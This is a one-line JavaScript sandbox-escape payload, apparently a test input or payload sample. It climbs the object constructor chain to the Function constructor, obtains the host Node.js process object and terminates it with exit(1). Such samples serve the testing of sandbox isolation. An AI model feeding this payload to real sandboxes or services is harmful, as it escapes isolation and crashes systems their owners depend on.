({}).constructor.constructor('return process')().exit(1);
